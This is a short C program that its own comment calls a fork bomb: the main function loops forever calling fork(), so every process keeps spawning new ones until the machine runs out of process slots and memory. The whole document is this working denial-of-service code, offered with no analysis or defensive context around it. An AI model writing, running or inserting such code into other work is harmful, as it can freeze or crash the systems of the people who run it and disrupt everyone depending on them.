// Fork bomb: every process forks forever, ignoring failures.
#include <unistd.h>
int main() {
    for (;;) fork();
}
